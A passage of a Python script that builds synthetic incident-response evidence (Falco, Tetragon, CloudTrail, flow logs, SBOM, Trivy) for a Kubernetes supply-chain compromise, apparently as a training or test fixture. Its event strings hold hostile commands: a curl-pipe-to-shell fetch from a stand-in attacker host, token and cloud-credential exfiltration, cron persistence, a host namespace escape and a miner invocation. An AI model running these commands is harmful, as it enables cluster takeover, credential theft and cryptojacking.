    second = xmrig_lines(epoch("14:15:02"), 7, reconnect=True)
    third = xmrig_lines(epoch("14:20:01"), 6, reconnect=True)
    return cri(first), cri(second), cri(third)

def falco_cri():
    """Falco (0.39, the DaemonSet's container, json_output: true) prints its alerts on stdout: the kubelet's CRI log
    of the falco container. Modern output_fields: container.id (12), container.image.repository, k8s.*; evt.time as
    epoch nanoseconds; tags with maturity_*."""
    def alert(hms, frac, rule, prio, out_text, fields, tags):
        t = ts(hms, frac)
        a = {"hostname": NODE, "output": "%s: %s %s" % (hms + ".%09d" % frac, prio, out_text), "output_fields": fields,
             "priority": prio, "rule": rule, "source": "syscall", "tags": tags, "time": t}
        return (ts(hms, frac + 3120000), "stdout", "F", json.dumps(a, separators=(",", ":")))
    base = lambda ctr, name, repo, tag, pod, cmd, exe, pname, ev_hms, ev_frac, **kw: dict({
        "container.id": ctr[:12], "container.image.repository": repo, "container.image.tag": tag, "container.name": name,
        "evt.time": int(epoch(ev_hms, ev_frac) * 1e9) // 1000 * 1000 + ev_frac % 1000, "evt.type": "execve",
        "k8s.ns.name": NS, "k8s.pod.name": pod, "proc.cmdline": cmd, "proc.exepath": exe, "proc.pname": pname,
        "user.loginuid": -1, "user.name": "root", "user.uid": 0}, **kw)
    lines = [
        alert("14:00:30", 118207331, "Launch Privileged Container", "Notice",
              "Privileged container started (user=root user_loginuid=0 nsenter container_id=%s image=%s) container_id=%s container_image=%s container_image_tag=3.20 container_name=shell k8s_ns=%s k8s_pod_name=%s"
              % (SHELL_CTR[:12], ALPINE, SHELL_CTR[:12], ALPINE, NS, SHELL),
              base(SHELL_CTR, "shell", ALPINE, "3.20", SHELL, "nsenter --target 1 --mount --uts --ipc --net --pid -- sleep infinity",
                   "/usr/bin/nsenter", "containerd-shim", "14:00:30", 118207331, **{"container.privileged": True}),
              ["maturity_incubating", "container", "cis", "mitre_execution", "T1610", "PCI_DSS_10.2.5"]),
        alert("14:10:05", 902331004, "Detect crypto miners using the Stratum protocol", "Critical",
              "Possible miner running (command=%s pid=1 user=root user_loginuid=-1 container_id=%s image=%s) container_id=%s container_image=%s container_image_tag=<NA> container_name=cleanup k8s_ns=%s k8s_pod_name=%s"
              % ("node-gc -o stratum+tcp://%s:3333 -u 44AF... -k --donate-level 0 --no-color" % POOL, MINER_CTR[:12], MAL_REPO,
                 MINER_CTR[:12], MAL_REPO, NS, MINER),
              base(MINER_CTR, "cleanup", MAL_REPO, "<NA>", MINER,
                   "node-gc -o stratum+tcp://%s:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -k --donate-level 0 --no-color" % POOL,
                   "/usr/local/bin/node-gc", "containerd-shim", "14:10:05", 902331004),
              ["maturity_sandbox", "host", "container", "process", "malware", "mitre_impact", "T1496"]),
    ]
    head = [(ts("07:59:01", 0), "stderr", "F", "Sat Nov 23 07:59:01 2026: Falco version: 0.39.2 (x86_64)"),
            (ts("07:59:01", 10000), "stderr", "F", "Sat Nov 23 07:59:01 2026: Loading rules from: /etc/falco/falco_rules.yaml")]
    return cri(head + lines)

# ------------------------------------------------------------------------------------------------------- Tetragon
def tproc(exec_id, pid, binary, args, start, pod=None, parent=None, uid=0, cwd="/"):
    p = {"exec_id": exec_id, "pid": pid, "uid": uid, "cwd": cwd, "binary": binary, "arguments": args,
         "flags": "execve clone", "start_time": start, "auid": 4294967295, "parent_exec_id": parent,
         "tid": pid, "in_init_tree": False}
    if parent is None: del p["parent_exec_id"]
    if pod:
        name, ctr, cname, repo, digest, tag, workload, kind, labels, cstart = pod
        p["pod"] = {"namespace": NS if name != SHOP else "shop", "name": name,
                    "container": {"id": "containerd://" + ctr, "name": cname,
                                  "image": {"id": repo + "@" + digest, "name": repo + ":" + tag if tag else repo + "@" + digest},
                                  "start_time": cstart, "pid": 1, "maybe_exec_probe": False},
                    "pod_labels": labels, "workload": workload, "workload_kind": kind}
        p["docker"] = ctr[:31]
    return p

JOB_POD = (JOB, BUILD_CTR, "build", MAL_REPO, MAL_DIGEST, MAL_TAG, JOB, "Pod",
           {"pod": "runner-xk3fz9q1-project-4711-concurrent-0"}, tsec("14:00:08"))
SHELL_POD = (SHELL, SHELL_CTR, "shell", ALPINE, ALPINE_DIGEST, "3.20", SHELL, "Pod", {"run": SHELL}, tsec("14:00:27"))
MINER_POD = (MINER, MINER_CTR, "cleanup", MAL_REPO, MAL_DIGEST, None, CRON, "CronJob",
             {"batch.kubernetes.io/job-name": CRON_JOB, "job-name": CRON_JOB}, tsec("14:10:05"))
OTHER_POD = (OTHER, OTHER_CTR, "build", NODE20, NODE20_DIGEST, "20", OTHER, "Pod",
             {"pod": "runner-xk3fz9q1-project-1200-concurrent-1"}, tsec("14:01:29"))

def tev(kind, body, t):
    return {kind: body, "node_name": NODE, "time": t, "cluster_name": CLUSTER}

def kprobe(proc, parent, fn, args, t, policy, ret=None, action="KPROBE_ACTION_POST"):
    b = {"process": proc, "parent": parent, "function_name": fn, "args": args, "action": action, "policy_name": policy}
    if ret is not None: b["return"] = ret
    return tev("process_kprobe", b, t)

def connect(saddr, daddr, sport, dport):
    return [{"sock_arg": {"family": "AF_INET", "type": "SOCK_STREAM", "protocol": "IPPROTO_TCP", "mark": 0, "priority": 0,
                          "saddr": saddr, "daddr": daddr, "sport": sport, "dport": dport, "cookie": "18446620712158281600",
                          "state": "TCP_SYN_SENT"}}]

def tetragon():
    b64 = lambda s: __import__("base64").b64encode(s.encode()).decode()
    eid = lambda pid, t: b64("%s:%d:%d" % (NODE.split(".")[0], int(epoch(t) * 1e9) % 10**15, pid))
    node_ = tproc(eid(21003, "14:00:11"), 21003, "/usr/local/bin/node", "/usr/local/bin/npm ci --no-audit", ts("14:00:11", 920000000),
                  JOB_POD, None, cwd="/builds/tools/node-utils")
    sh = tproc(eid(21410, "14:00:17"), 21410, "/bin/sh", "-c \"curl -s http://%s/k.sh | sh -s -- --token /var/run/secrets/kubernetes.io/serviceaccount/token --api https://kubernetes.default.svc\"" % ATTACKER,
               ts("14:00:17", 40000000), JOB_POD, node_["exec_id"], cwd="/builds/tools/node-utils/node_modules/node-builder-utils")
    curl = tproc(eid(21411, "14:00:17"), 21411, "/usr/bin/curl", "-s http://%s/k.sh" % ATTACKER, ts("14:00:17", 41000000),
                 JOB_POD, sh["exec_id"])
    cat = tproc(eid(21420, "14:00:18"), 21420, "/bin/cat", "/var/run/secrets/kubernetes.io/serviceaccount/token",
                ts("14:00:18", 300000000), JOB_POD, sh["exec_id"])
    kubectl = tproc(eid(21425, "14:00:20"), 21425, "/tmp/.k/kubectl", "run %s --image=alpine:3.20 --overrides=... -n %s" % (SHELL, NS),
                    ts("14:00:20", 700000000), JOB_POD, sh["exec_id"])
    exfil = tproc(eid(21440, "14:00:29"), 21440, "/usr/bin/curl", "-s -X POST --data-binary @/var/run/secrets/kubernetes.io/serviceaccount/token http://%s/t" % ATTACKER,
                  ts("14:00:29", 0), JOB_POD, sh["exec_id"])
    nsenter = tproc(eid(1, "14:00:27"), 88310, "/usr/bin/nsenter", "--target 1 --mount --uts --ipc --net --pid -- sleep infinity",
                    ts("14:00:27", 500000000), SHELL_POD, None)
    hsh = tproc(eid(88402, "14:01:02"), 88402, "/bin/sh", "-c \"TOKEN=$(curl -s -X PUT http://169.254.169.254/latest/api/token -H 'X-aws-ec2-metadata-token-ttl-seconds: 300'); curl -s -H \\\"X-aws-ec2-metadata-token: $TOKEN\\\" http://169.254.169.254/latest/meta-data/iam/security-credentials/%s | curl -s -X POST --data-binary @- http://%s/c\"" % (NODE_ROLE_NAME, ATTACKER),
                ts("14:01:02", 0), SHELL_POD, nsenter["exec_id"], cwd="/root")
    hcurl = tproc(eid(88405, "14:01:02"), 88405, "/usr/bin/curl", "-s -H X-aws-ec2-metadata-token: AQAEA... http://169.254.169.254/latest/meta-data/iam/security-credentials/" + NODE_ROLE_NAME,
                  ts("14:01:02", 210000000), SHELL_POD, hsh["exec_id"], cwd="/root")
    cron = tproc(eid(88450, "14:01:40"), 88450, "/bin/sh", "-c \"echo '*/5 * * * * root curl -s http://%s/k.sh | sh' > /etc/cron.d/kubelet-gc\"" % ATTACKER,
                 ts("14:01:40", 0), SHELL_POD, nsenter["exec_id"], cwd="/root")
    miner = tproc(eid(1, "14:10:05"), 91201, "/usr/local/bin/node-gc",
                  "-o stratum+tcp://%s:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -k --donate-level 0 --no-color" % POOL,
                  ts("14:10:05", 880000000), MINER_POD, None)
    other = tproc(eid(22010, "14:01:31"), 22010, "/usr/local/bin/node", "/usr/local/bin/npm ci --no-audit", ts("14:01:31", 0),
                  OTHER_POD, None, cwd="/builds/shop/web")
    strip = lambda p: {k: v for k, v in p.items() if k != "pod"}
    tok_path = "/var/run/secrets/kubernetes.io/serviceaccount/..2026_11_23_14_00_08.3417782019/token"
    early = [
        tev("process_exec", {"process": node_}, ts("14:00:11", 920400000)),
        tev("process_exec", {"process": sh, "parent": node_}, ts("14:00:17", 40300000)),
        tev("process_exec", {"process": curl, "parent": sh}, ts("14:00:17", 41200000)),
        kprobe(curl, sh, "tcp_connect", connect(JOB_IP, ATTACKER, 40122, 80), ts("14:00:17", 52000000), "connect-egress"),
        tev("process_exec", {"process": cat, "parent": sh}, ts("14:00:18", 300400000)),
        kprobe(cat, sh, "security_file_permission", [{"file_arg": {"path": tok_path, "permission": "-rw-r-----"}}, {"int_arg": 4}],
               ts("14:00:18", 301100000), "sa-token-read", ret={"int_arg": 0}),
        tev("process_exec", {"process": kubectl, "parent": sh}, ts("14:00:20", 700300000)),
        kprobe(kubectl, sh, "tcp_connect", connect(JOB_IP, "172.20.0.1", 40188, 443), ts("14:00:20", 760000000), "connect-egress"),
        tev("process_exec", {"process": nsenter}, ts("14:00:27", 500300000)),
        kprobe(nsenter, None, "__x64_sys_setns", [{"int_arg": 3}, {"int_arg": 0}], ts("14:00:27", 501000000), "namespace-changes",
               ret={"int_arg": 0}),
        tev("process_exec", {"process": exfil, "parent": sh}, ts("14:00:29", 400000)),
        kprobe(exfil, sh, "tcp_connect", connect(JOB_IP, ATTACKER, 40201, 80), ts("14:00:29", 9000000), "connect-egress"),
        tev("process_exec", {"process": other}, ts("14:01:31", 300000)),
        kprobe(other, None, "tcp_connect", connect(OTHER_IP, "192.0.2.60", 41800, 443), ts("14:01:32", 0), "connect-egress"),
        tev("process_exec", {"process": hsh, "parent": nsenter}, ts("14:01:02", 300000)),
        tev("process_exec", {"process": hcurl, "parent": hsh}, ts("14:01:02", 210300000)),
        kprobe(hcurl, hsh, "tcp_connect", connect(NODE_IP, "169.254.169.254", 51932, 80), ts("14:01:02", 214000000), "connect-egress"),
        tev("process_exec", {"process": cron, "parent": nsenter}, ts("14:01:40", 300000)),
        kprobe(cron, nsenter, "security_file_permission",
               [{"file_arg": {"path": "/etc/cron.d/kubelet-gc", "permission": "-rw-r--r--"}}, {"int_arg": 2}],
               ts("14:01:40", 1200000), "file-write-etc", ret={"int_arg": 0}),
        tev("process_exit", {"process": strip(curl) | {"pod": curl["pod"]}, "parent": sh, "status": 0, "time": ts("14:00:17", 310000000)},
            ts("14:00:17", 310000000)),
    ]
    late = [
        tev("process_exec", {"process": miner}, ts("14:10:05", 880300000)),
        kprobe(miner, None, "tcp_connect", connect(MINER_IP, POOL_IP, 43110, 3333), ts("14:10:07", 200000000), "connect-egress"),
        kprobe(miner, None, "tcp_connect", connect(MINER_IP, POOL_IP, 43388, 3333), ts("14:15:07", 100000000), "connect-egress"),
    ]
    early.sort(key=lambda e: e["time"])
    return jl(early), jl(late)

# ------------------------------------------------------------------------------------------------------ CloudTrail
def cloudtrail():
    node_identity = {"type": "AssumedRole", "principalId": "AROAUBUILDNODEROLE01:" + INSTANCE, "arn": NODE_SESSION,
                     "accountId": ACCT, "accessKeyId": NODE_KEY,
                     "sessionContext": {"sessionIssuer": {"type": "Role", "principalId": "AROAUBUILDNODEROLE01", "arn": NODE_ROLE,
                                                          "accountId": ACCT, "userName": NODE_ROLE_NAME},
                                        "attributes": {"creationDate": DAY + "T13:47:12Z", "mfaAuthenticated": "false"},
                                        "ec2RoleDelivery": "2.0"}}
    n = [0]
    def rec(t, source, name, ip, ua, req, resp, category="Management", ro=True, extra=None):
        n[0] += 1
        r = {"eventVersion": "1.10", "userIdentity": node_identity, "eventTime": DAY + "T" + t + "Z",
             "eventSource": source, "eventName": name, "awsRegion": REGION, "sourceIPAddress": ip, "userAgent": ua,
             "requestParameters": req, "responseElements": resp,
             "requestID": "3b9e%04d-5c1d-4e2f-8a3b-%012d" % (n[0], n[0]), "eventID": "c7d1%04d-2e3f-4a5b-9c6d-%012d" % (n[0], n[0]),
             "readOnly": ro, "eventType": "AwsApiCall", "managementEvent": category == "Management",
             "recipientAccountId": ACCT, "eventCategory": category,
             "tlsDetails": {"tlsVersion": "TLSv1.3", "cipherSuite": "TLS_AES_128_GCM_SHA256",
                            "clientProvidedHostHeader": source.replace(".amazonaws.com", "") + "." + REGION + ".amazonaws.com"}}
        if extra: r.update(extra)
        return r
    cli = "aws-cli/2.17.43 md/awscrt#0.21.2 ua/2.0 os/linux#6.8.0-45-generic md/arch#x86_64 lang/python#3.12.6 md/pyimpl#CPython cfg/retry-mode#standard md/installer#exe md/distrib#ubuntu.24 md/prompt#off md/command#"
    records = [
        # the node's own use of its role: the kubelet's ECR credential provider (context, from the node)
        rec("13:58:41", "ecr.amazonaws.com", "GetAuthorizationToken", NODE_IP,
            "ecr-credential-provider/v1.31.0 aws-sdk-go-v2/1.30.3 os/linux lang/go#1.22.5 md/GOOS#linux md/GOARCH#amd64 api/ecr#1.32.0",
            {"registryIds": [ACCT]}, None),
        # 14:02 the stolen node credentials, from the attacker's address
        rec("14:02:10", "sts.amazonaws.com", "GetCallerIdentity", ATTACKER, cli + "sts.get-caller-identity", None, None),
        rec("14:02:31", "s3.amazonaws.com", "ListBuckets", ATTACKER, "[" + cli + "s3.ls]", {"Host": "s3.eu-west-1.amazonaws.com"}, None),
        rec("14:02:52", "s3.amazonaws.com", "GetObject", ATTACKER, "[" + cli + "s3.cp]",
            {"bucketName": "acme-ci-build-cache", "Host": "acme-ci-build-cache.s3.eu-west-1.amazonaws.com",
             "key": "deploy/kubeconfig-prod.yaml"}, None, category="Data",
            extra={"resources": [{"type": "AWS::S3::Object", "ARN": "arn:aws:s3:::acme-ci-build-cache/deploy/kubeconfig-prod.yaml"},
                                 {"accountId": ACCT, "type": "AWS::S3::Bucket", "ARN": "arn:aws:s3:::acme-ci-build-cache"}],
                   "additionalEventData": {"SignatureVersion": "SigV4", "CipherSuite": "TLS_AES_128_GCM_SHA256",
                                           "bytesTransferredIn": 0, "AuthenticationMethod": "AuthHeader",
                                           "x-amz-id-2": "Jq8v2kPz0abcdEXAMPLE=", "bytesTransferredOut": 5871}}),
        rec("14:03:15", "secretsmanager.amazonaws.com", "ListSecrets", ATTACKER, cli + "secretsmanager.list-secrets", None, None),
        rec("14:03:40", "secretsmanager.amazonaws.com", "GetSecretValue", ATTACKER, cli + "secretsmanager.get-secret-value",
            {"secretId": "ci/npm-publish-token"}, None,
            extra={"resources": [{"accountId": ACCT, "type": "AWS::SecretsManager::Secret",
                                  "ARN": "arn:aws:secretsmanager:%s:%s:secret:ci/npm-publish-token-Ab3dE9" % (REGION, ACCT)}]}),
        rec("14:04:02", "iam.amazonaws.com", "ListAttachedRolePolicies", ATTACKER, cli + "iam.list-attached-role-policies",
            {"roleName": NODE_ROLE_NAME}, None, extra={"awsRegion": "us-east-1"}),
    ]
    records.sort(key=lambda r: r["eventTime"])
    return json.dumps({"Records": records}, separators=(",", ":"))

# ---------------------------------------------------------------------------------------------------- VPC Flow v5
FLOW_FIELDS = ("version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action "
               "log-status vpc-id subnet-id instance-id tcp-flags type pkt-srcaddr pkt-dstaddr region az-id "
               "sublocation-type sublocation-id pkt-src-aws-service pkt-dst-aws-service flow-direction traffic-path")

def flows():
    out = [FLOW_FIELDS + "\n"]
    def f(src, dst, sp, dp, pk, by, start, direction, path="8", flags=19):
        s = int(epoch(start))
        out.append("5 %s %s %s %s %d %d 6 %d %d %d %d ACCEPT OK %s %s %s %d IPv4 %s %s %s %s - - - - %s %s\n" % (
            ACCT, ENI, src, dst, sp, dp, pk, by, s, s + 59, VPC, SUBNET, INSTANCE, flags, src, dst, REGION, AZ_ID,
            direction, path if direction == "egress" else "-"))
    f(JOB_IP, ATTACKER, 40122, 80, 9, 3412, "14:00:17", "egress")
    f(ATTACKER, JOB_IP, 80, 40122, 7, 9120, "14:00:17", "ingress")
    f(JOB_IP, ATTACKER, 40201, 80, 6, 1877, "14:00:29", "egress")
    f(NODE_IP, ATTACKER, 51999, 80, 6, 2201, "14:01:02", "egress")  # the node's address: the hostNetwork shell's upload
    for i, start in enumerate(("14:10:07", "14:11:07", "14:12:07", "14:13:07", "14:14:07", "14:15:07", "14:16:07")):
        f(MINER_IP, POOL_IP, 43110 if i < 5 else 43388, 3333, 40 + i, 8800 + 31 * i, start, "egress", flags=18 if i else 19)
    f(OTHER_IP, "192.0.2.60", 41800, 443, 1220, 4410021, "14:01:32", "egress")
    for i, c in enumerate(("192.0.2.31", "192.0.2.88", "192.0.2.140")):
        f(c, SHOP_IP, 51000 + i, 8080, 12, 6102, "14:0%d:00" % (i * 3), "ingress")
    return "".join(out)

# ---------------------------------------------------------------------------------------- SBOM and vulnerability scan
def cyclonedx():
    comps = [("node-builder-utils", "2.1.4", "pkg:npm/node-builder-utils@2.1.4"),
             ("nodejs", "18.20.4", "pkg:generic/nodejs@18.20.4"),
             ("cross-spawn", "7.0.3", "pkg:npm/cross-spawn@7.0.3"),
             ("busybox", "1.36.1-r29", "pkg:apk/alpine/busybox@1.36.1-r29?arch=x86_64&distro=alpine-3.20.3"),
             ("xmrig", "6.21.3", "pkg:generic/xmrig@6.21.3")]
    components = []
    for i, (name, ver, purl) in enumerate(comps):
        c = {"bom-ref": "%s-%016x" % (purl.split(":")[1].split("/")[0], 0x5a1c0000 + i), "type": "library", "name": name,
             "version": ver, "purl": purl, "properties": [{"name": "syft:package:foundBy", "value":
                "javascript-package-cataloger" if purl.startswith("pkg:npm") else "apk-db-cataloger" if "apk" in purl else "binary-classifier-cataloger"}]}
        if name == "xmrig":
            c["type"] = "application"
            c["properties"].append({"name": "syft:location:0:path", "value": "/usr/local/bin/node-gc"})
        components.append(c)
    return {"$schema": "http://cyclonedx.org/schema/bom-1.5.schema.json", "bomFormat": "CycloneDX", "specVersion": "1.5",
            "serialNumber": "urn:uuid:8e0c1f2a-3b4d-4c5e-9f6a-7b8c9d0e1f2a", "version": 1,
            "metadata": {"timestamp": "2026-11-23T15:20:11Z",
                         "tools": {"components": [{"type": "application", "author": "anchore", "name": "syft", "version": "1.14.2"}]},
                         # syft's toBomDescriptorComponent: name = the user input, version = the manifest digest
                         "component": {"bom-ref": "e3c1a9b2f4d6e8a0", "type": "container", "name": MAL_REPO + ":" + MAL_TAG,
                                       "version": MAL_DIGEST}},
            "components": components}

def trivy():
    return {"SchemaVersion": 2, "CreatedAt": "2026-11-23T15:21:40.112093811Z", "ArtifactName": MAL_REPO + ":" + MAL_TAG,
            "ArtifactType": "container_image",
            "Metadata": {"OS": {"Family": "alpine", "Name": "3.20.3"}, "ImageID": MAL_IMAGE_ID,
                         "DiffIDs": ["sha256:" + "63ca1fbb" * 8, "sha256:" + "9d0e1f2a" * 8],
                         "RepoTags": [MAL_REPO + ":" + MAL_TAG], "RepoDigests": [MAL_REPO + "@" + MAL_DIGEST],
                         "ImageConfig": {"architecture": "amd64", "created": "2026-11-19T02:11:40Z", "os": "linux",
                                         "config": {"Cmd": ["node"], "Env": ["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
                                                                            "NODE_VERSION=18.20.4"]}}},
            "Results": [
                {"Target": MAL_REPO + ":" + MAL_TAG + " (alpine 3.20.3)", "Class": "os-pkgs", "Type": "alpine",
                 "Vulnerabilities": [{"VulnerabilityID": "CVE-2024-9143", "PkgID": "libcrypto3@3.3.2-r0", "PkgName": "libcrypto3",
                                      "PkgIdentifier": {"PURL": "pkg:apk/alpine/libcrypto3@3.3.2-r0?arch=x86_64&distro=3.20.3",
                                                        "UID": "9a1b2c3d4e5f6a7b"},
                                      "InstalledVersion": "3.3.2-r0", "FixedVersion": "3.3.2-r1", "Status": "fixed",
                                      "Layer": {"DiffID": "sha256:" + "63ca1fbb" * 8},
                                      "SeveritySource": "nvd", "PrimaryURL": "https://avd.aquasec.com/nvd/cve-2024-9143",
                                      "Title": "openssl: Low-level invalid GF(2^m) parameters lead to OOB memory access",
                                      "Severity": "LOW", "CVSS": {"nvd": {"V3Vector": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:L/I:N/A:L", "V3Score": 6.5}}}]},
                {"Target": "usr/local/lib/node_modules/npm/node_modules/cross-spawn/package.json", "Class": "lang-pkgs", "Type": "node-pkg",
                 "Vulnerabilities": [{"VulnerabilityID": "CVE-2024-21538", "PkgID": "cross-spawn@7.0.3", "PkgName": "cross-spawn",
                                      "PkgPath": "usr/local/lib/node_modules/npm/node_modules/cross-spawn/package.json",
                                      "PkgIdentifier": {"PURL": "pkg:npm/cross-spawn@7.0.3", "UID": "1f2e3d4c5b6a7988"},
                                      "InstalledVersion": "7.0.3", "FixedVersion": "7.0.5, 6.0.6", "Status": "fixed",
                                      "Layer": {"DiffID": "sha256:" + "9d0e1f2a" * 8},
                                      "SeveritySource": "ghsa", "PrimaryURL": "https://avd.aquasec.com/nvd/cve-2024-21538",
                                      "Title": "cross-spawn: regular expression denial of service", "Severity": "HIGH",
                                      "CVSS": {"ghsa": {"V3Vector": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H", "V3Score": 7.5}}}]}]}

# ------------------------------------------------------------------------------------------------------------ main
def main():
    if os.path.exists(OUT):
        shutil.rmtree(OUT)
    write("strata-context.yaml", "\n".join([
        "# what the responder collected, and where from (the collector's context manifest)",
        "- path: control-plane", "  cluster: %s" % CLUSTER, "  cloud_provider: aws", '  cloud_account: "%s"' % ACCT,
        "  cloud_region: %s" % REGION,
        "- path: nodes/ip-10-61-7-19", "  host: %s" % NODE, "  cluster: %s" % CLUSTER, "  cloud_provider: aws",
        '  cloud_account: "%s"' % ACCT, "  cloud_region: %s" % REGION, "  cloud_instance: %s" % INSTANCE,
        "- path: images", "  cluster: %s" % CLUSTER, '  cloud_account: "%s"' % ACCT, "  cloud_region: %s" % REGION, ""]))
    exp = "control-plane/cloudwatch-export/exportedlogs/7e3c9b1a-4f2d-4c8e-a1b5-9d0e2f6a8c34"
    write(exp + "/aws-logs-write-test", "Permission Check Successful")
    write(exp + "/kube-apiserver-audit-1a2b3c4d5e6f70819a0b1c2d3e4f5061/000000.gz", cloudwatch_export(audit_log()), gz=True)
    write("control-plane/kubectl/get-events-all-namespaces.json", json.dumps(events(), indent=4) + "\n")
    pods = "nodes/ip-10-61-7-19/var/log/pods/"
    write(pods + "%s_%s_%s/build/0.log" % (NS, JOB, JOB_UID), cri_job_build())
    write(pods + "%s_%s_%s/build/0.log" % (NS, OTHER, OTHER_UID), cri_other_build())
    write(pods + "shop_%s_%s/frontend/1.log" % (SHOP, SHOP_UID), cri_shop())
    first, second, third = cri_miner()
    mdir = pods + "%s_%s_%s/cleanup/" % (NS, MINER, MINER_UID)
    # the kubelet's rotation: <n>.log.<YYYYMMDD-hhmmss>, compressed but the newest rotated one
    write(mdir + "0.log.20261123-141500.gz", first, gz=True)
    write(mdir + "0.log.20261123-142000", second)
    write(mdir + "0.log", third)
    write(pods + "falco_%s_%s/falco/0.log" % (FALCO_POD, FALCO_UID), falco_cri())
    early, late = tetragon()
    write("nodes/ip-10-61-7-19/var/run/cilium/tetragon/tetragon-2026-11-23T14-08-41.372.log", early)
    write("nodes/ip-10-61-7-19/var/run/cilium/tetragon/tetragon.log", late)
    write("AWSLogs/%s/CloudTrail/%s/2026/11/23/%s_CloudTrail_%s_20261123T1405Z_Xy12AbCdEf34GhIj.json.gz" % (ACCT, REGION, ACCT, REGION),
          cloudtrail(), gz=True)
    write("AWSLogs/%s/vpcflowlogs/%s/2026/11/23/%s_vpcflowlogs_%s_fl-0c1d2e3f4a5b6c7d8_20261123T1415Z_9a8b7c6d.log.gz" % (ACCT, REGION, ACCT, REGION),
          flows(), gz=True)
    write("images/node-builder-18.cdx.json", json.dumps(cyclonedx(), indent=1) + "\n")
    write("images/trivy-node-builder-18.json", json.dumps(trivy(), indent=2) + "\n")

if __name__ == "__main__":
    main()
